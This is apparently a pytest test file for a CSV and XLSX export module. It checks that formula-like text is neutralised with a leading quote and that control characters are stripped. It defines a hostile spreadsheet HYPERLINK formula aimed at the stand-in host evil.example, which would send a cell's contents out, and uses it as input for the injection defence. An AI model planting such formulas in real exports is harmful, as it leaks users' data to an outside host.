"""The one CSV and XLSX writer: text is never a formula and always legal XML, numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
from datetime import UTC
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from smartregion.core.spreadsheets import XlsxWriter, csv_bytes, csv_lines, original_text, spreadsheet_text

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _sheet(writer: XlsxWriter, title: str = "Tabelle") -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(io.BytesIO(writer.to_bytes()))[title]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+49 2551 69-0", "'+49 2551 69-0"),
        ("-Ziel", "'-Ziel"),
        ("@SUMME(A1)", "'@SUMME(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # so that removing one quote gives back what was written
        ("Ganz normal = gut", "Ganz normal = gut"),
        ("'zitiert'", "'zitiert'"),
        ("", ""),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(text: str, written: str) -> None:
    assert spreadsheet_text(text) == written
    assert original_text(written) == text


def test_control_characters_go_and_a_soft_line_break_becomes_a_line_break() -> None:
    assert spreadsheet_text("Zeile\x0bumbruch\x0cSeite") == "Zeile\numbruch\nSeite"
    assert spreadsheet_text("a\x00b\x1b[31mc\x7fd\ufffe\uffff") == "ab[31mc\x7fd"
    assert spreadsheet_text("\x1b=1+1") == "'=1+1"  # cleaned first, then checked


_CONTROL = "".join(chr(i) for i in range(32) if chr(i) not in "\t\n\r") + "\ufffe\uffff"


@settings(max_examples=200)
@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters=_CONTROL)))
@example("'")
@example("''=")
@example("\t'")
def test_removing_the_quote_gives_back_any_legal_text(text: str) -> None:
    assert original_text(spreadsheet_text(text)) == text


def test_csv_escapes_every_text_cell_and_leaves_numbers_and_dates_alone() -> None:
    content = csv_bytes(
        [
            ["Nr", "=Kopf"],
            [1, HOSTILE],
            [-5, Decimal("-1.50")],
            [datetime.date(2026, 3, 1), None],
            [True, "a\x0bb"],
        ]
    )

    assert content.startswith("\ufeff".encode())
    assert _csv_rows(content) == [
        ["Nr", "'=Kopf"],
        ["1", "'" + HOSTILE],
        ["-5", "-1.50"],
        ["2026-03-01", ""],
        ["WAHR", "a\nb"],
    ]


def test_csv_values_other_than_text_may_be_worded_by_the_caller() -> None:
    def german(value: object) -> str:
        return str(value).replace(".", ",")

    content = csv_bytes([[Decimal("-1.5"), "-1.5"]], value_text=german)

    assert _csv_rows(content) == [["-1,5", "'-1.5"]]


def test_csv_is_streamed_one_line_at_a_time() -> None:
    def rows():
        yield ["a", 1]
        raise AssertionError("read too far")

    lines = csv_lines(rows())

    assert next(lines) == "\ufeff"
    assert next(lines) == "a;1\r\n"


def test_xlsx_writes_text_as_text_and_numbers_dates_as_values() -> None:
    writer = XlsxWriter()
    sheet = writer.sheet("Tabelle", header=["Text", "Zahl", "Betrag", "Tag", "Fehler"], widths=[20, 8])
    sheet.append([HOSTILE, 12, Decimal("1234.50"), datetime.date(2026, 3, 1), "#N/A"])
    sheet.append(
        ["Zeile\x0bumbruch\x1b", -3.5, None, datetime.datetime(2026, 3, 1, 8, 30, tzinfo=UTC), "=1+1"]
    )

    rows = list(_sheet(writer).iter_rows(min_row=2))

    text, number, amount, day, error = rows[0]
    assert (text.data_type, text.value) == ("s", "'" + HOSTILE)
    assert (number.data_type, number.value) == ("n", 12)
    assert (amount.data_type, amount.value) == ("n", Decimal("1234.50"))
    assert day.is_date
    assert day.value == datetime.datetime(2026, 3, 1)  # noqa: DTZ001 - Excel has no time zones
    assert (error.data_type, error.value) == ("s", "#N/A")
    assert rows[1][0].value == "Zeile\numbruch"
    assert rows[1][1].value == -3.5
    assert rows[1][3].value == datetime.datetime(2026, 3, 1, 9, 30)  # noqa: DTZ001 - in Berlin, as shown
    assert (rows[1][4].data_type, rows[1][4].value) == ("s", "'=1+1")


def test_xlsx_header_is_bold_and_frozen_and_columns_have_widths() -> None:
    writer = XlsxWriter()
    writer.sheet("Tabelle", header=["=Kopf", "B"], widths=[30, 12]).append(["x", "y"])

    sheet = _sheet(writer)

    assert [c.value for c in sheet[1]] == ["'=Kopf", "B"]
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (30, 12)


def test_xlsx_with_several_sheets_in_the_order_made() -> None:
    writer = XlsxWriter()
    first = writer.sheet("Eins", header=["A"])
    second = writer.sheet("Zwei", header=["B"])
    second.append(["zwei"])
    first.append(["eins"])

    workbook = openpyxl.load_workbook(io.BytesIO(writer.to_bytes()))

    assert workbook.sheetnames == ["Eins", "Zwei"]
    assert workbook["Eins"]["A2"].value == "eins"
    assert workbook["Zwei"]["A2"].value == "zwei"
